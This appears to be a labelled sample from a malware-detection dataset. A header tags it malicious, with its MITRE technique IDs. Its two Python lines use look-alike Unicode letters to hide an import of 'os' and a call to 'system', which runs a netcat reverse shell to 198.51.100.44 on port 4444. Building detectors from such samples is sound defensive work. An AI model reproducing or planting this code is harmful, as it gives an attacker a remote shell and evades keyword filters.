# label: malicious family=unicode techniques=T1027,T1036,T1059.004,T1095,T1571 lines=2-3
m = __𝗂𝗆𝗉𝗈𝗋𝗍__("os")
m.𝗌𝗒𝗌𝗍𝖾𝗆("nc -e /bin/sh 198.51.100.44 4444")
